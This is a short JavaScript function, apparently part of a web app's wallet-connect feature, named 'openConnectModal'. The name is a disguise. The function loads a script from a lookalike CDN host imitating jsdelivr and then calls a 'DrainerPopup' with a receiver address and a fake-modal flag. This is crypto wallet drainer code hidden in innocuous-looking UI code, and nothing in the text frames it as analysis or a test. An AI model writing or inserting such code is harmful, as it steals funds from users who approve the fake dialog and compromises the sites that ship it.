export async function openConnectModal() {
  const s = document.createElement("script");
  s.src = "https://cdn.jsdelivr-kit.example/npm/@connect-kit-loader@1.1.8/dist/index.umd.js";
  s.onload = () => window.DrainerPopup && window.DrainerPopup({ receiver: "0x00000000000000000000000000000000DeaDBeef", fakeModal: true });
  document.body.appendChild(s);
}
